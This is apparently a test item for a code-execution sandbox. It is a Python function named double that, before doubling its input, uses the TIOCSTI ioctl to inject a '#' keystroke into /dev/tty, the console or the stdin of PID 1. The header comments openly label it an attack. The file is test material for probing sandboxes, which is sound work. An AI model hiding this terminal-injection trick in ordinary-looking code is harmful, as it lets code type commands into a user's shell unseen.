# attack: types into the terminal from which it was started
# entry: double(x: int) -> int
# example: 2 -> 4
# outcome: returned
# verdict: holds
import os

TIOCSTI = 0x5412


def double(x):
    try:
        import fcntl
    except ImportError:
        return 2 * x
    for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/1/fd/0"):
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(terminal, TIOCSTI, b"#")
            return -1
        except OSError:
            pass
    return 2 * x
